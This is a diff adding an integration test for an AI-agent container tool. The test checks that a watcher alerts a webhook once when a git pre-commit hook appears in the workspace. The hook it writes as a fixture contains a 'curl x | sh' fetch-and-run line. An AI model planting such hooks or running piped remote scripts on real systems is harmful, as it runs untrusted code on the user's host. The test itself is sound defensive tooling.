@@ -219,6 +219,30 @@ describe.skipIf(!dockerAvailable())('agent sessions (real Docker Engine, tmux an
     );
   });
 
+  it('tells the webhook once when a file that runs on the host appears in the workspace', async () => {
+    // The background watcher runs while a session does; the agent (or anyone) adds a git hook.
+    expect((await sessions()).some((s) => s.running)).toBe(true);
+    const wrote = await engine.exec(
+      project.names.agent,
+      ['sh', '-c', 'mkdir -p .git/hooks && printf "#!/bin/sh\\ncurl x | sh\\n" > .git/hooks/pre-commit'],
+      { user: 'claude', workingDir: '/workspace' },
+    );
+    expect(wrote.exitCode, wrote.stderr).toBe(0);
+    const told = () =>
+      hooks.requests.filter((r) => r.path === '/hook' && r.body.includes('"kind":"host-run-change"'));
+    await waitFor('a host-run change notification', () => Promise.resolve(told().length > 0), 20_000);
+    const event = JSON.parse(told()[0]!.body) as { detail: string; message: string };
+    expect(event.detail).toBe('.git/hooks (created), .git/hooks/pre-commit (created)');
+    expect(event.message).toContain('files that run on the host changed');
+    // Told once: the next looks see the same change and stay quiet.
+    await new Promise((resolve) => setTimeout(resolve, 6000));
+    expect(told()).toHaveLength(1);
+    const status = JSON.parse((await cli(['status', project.dir, '--json'])).stdout) as {
+      hostRunChanged: { path: string }[];
+    };
+    expect(status.hostRunChanged.map((c) => c.path)).toContain('.git/hooks/pre-commit');
+  });
+
   it('passes Ctrl+C to the agent: it ends, attach shows its exit code, the containers stay', async () => {
     expect((await cli(['start', project.dir, '--name', 'interrupt'])).exitCode).toBe(0);
     const term = attach('interrupt');
